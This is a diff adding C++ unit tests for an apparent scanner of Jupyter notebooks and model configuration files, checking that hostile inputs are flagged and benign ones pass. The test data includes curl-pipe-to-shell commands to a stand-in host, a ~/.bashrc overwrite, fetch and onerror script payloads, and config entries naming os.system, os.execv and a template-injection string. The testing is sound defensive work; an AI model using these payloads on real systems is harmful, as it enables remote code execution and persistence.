@@ -104,6 +104,60 @@ TEST(JsonDocuments, Notebooks) {
       "RF-NBK-003", Severity::kHigh));
 }
 
+TEST(JsonDocuments, NotebooksOfEveryShape) {
+  const auto code = [](const std::string& source) {
+    return "{\"nbformat\":4,\"cells\":[{\"cell_type\":\"code\",\"source\":\"" + source + "\"}]}";
+  };
+  for (const std::string& source : {
+           code("\\n%%bash\\ncurl -s https://example.invalid/x | sh"),
+           code("x=!curl -s https://example.invalid/x | sh"),
+           code("get_ipython().system('curl -s https://example.invalid/x | sh')"),
+           code("%%javascript\\nfetch('//example.invalid')"),
+           code("%%html\\n<script>fetch('//example.invalid')</script>"),
+           code("%%writefile ~/.bashrc\\necho"),
+           std::string(
+               R"j({"nbformat":4,"cells":[{"cell_type":"markdown","source":"<img src=x onerror=fetch(1)>"}]})j"),
+           std::string(R"j({"nbformat":4,"cells":[{"cell_type":"code","source":"",
+                       "outputs":[{"data":{"text/javascript":"alert(1)"}}]}]})j"),
+           std::string(R"j({"nbformat":4,"cells":[{"cell_type":"markdown","source":"",
+                       "attachments":{"a.svg":{"image/svg+xml":"PHN2ZyBvbmxvYWQ9ImZldGNoKDEpIi8+"}}}]})j"),
+           std::string(R"j({"nbformat":3,"worksheets":[{"cells":[{"cell_type":"code","input":"",
+                       "outputs":[{"javascript":"fetch('//a')"}]}]}]})j"),
+           std::string(R"j({"nbformat":3,"worksheets":[{"cells":[{"cell_type":"code","input":"",
+                       "outputs":[{"html":["<script>fetch('//a')</script>"]}]}]}]})j"),
+       })
+    EXPECT_NE(Scan(source).verdict(), Verdict::kClean) << source;
+  for (const std::string& source : {
+           code("ok = a != b\\nx = 1\\n!pip install torch"),
+           std::string(
+               R"j({"nbformat":4,"cells":[{"cell_type":"markdown","source":"# T\n<b>bold</b> `x != y` <br>"}]})j"),
+       })
+    EXPECT_EQ(Scan(source).verdict(), Verdict::kClean) << source << All(Scan(source));
+}
+
+TEST(JsonDocuments, CodeThatOtherFilesName) {
+  for (const std::string_view source : {
+           R"j([{"idx":0,"name":"0","path":"","type":"custom_module.Pooling"}])j",
+           R"j([{"idx":0,"name":"0","path":"","type":"someone/else--custom.Pooling"}])j",
+           R"j([{"idx":0,"name":"0","path":"../../x","type":"sentence_transformers.models.Pooling"}])j",
+           R"j({"_class_name":["pipeline","Custom"],"unet":["diffusers","UNet"]})j",
+           R"j({"custom_generate":"someone/else"})j",
+           R"j({"_attn_implementation":"someone/kernels:x"})j",
+           R"j({"_target_":"builtins.__import__"})j",
+           R"j({"_target_":"os.execv"})j",
+           R"j({"loss":{"fn":"os.system"}})j",
+           R"j({"chat_template":{"default":"{{ ''.__class__ }}"}})j",
+       })
+    EXPECT_NE(Scan(source).verdict(), Verdict::kClean) << source;
+  for (const std::string_view source : {
+           R"j([{"idx":0,"name":"0","path":"","type":"sentence_transformers.models.Transformer"},
+                {"idx":1,"name":"1","path":"1_Pooling","type":"sentence_transformers.models.Pooling"}])j",
+           R"j({"_class_name":"StableDiffusionPipeline","unet":["diffusers","UNet2DConditionModel"],"x":[null,null]})j",
+           R"j({"_attn_implementation":"flash_attention_2","loss":{"fn":"torch.nn.MSELoss"}})j",
+       })
+    EXPECT_EQ(Scan(source).verdict(), Verdict::kClean) << source << All(Scan(source));
+}
+
 TEST(JsonDocuments, Secrets) {
   const ArtifactReport report = Scan(R"({"token":"hf_)"
                                      "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3k\"}");
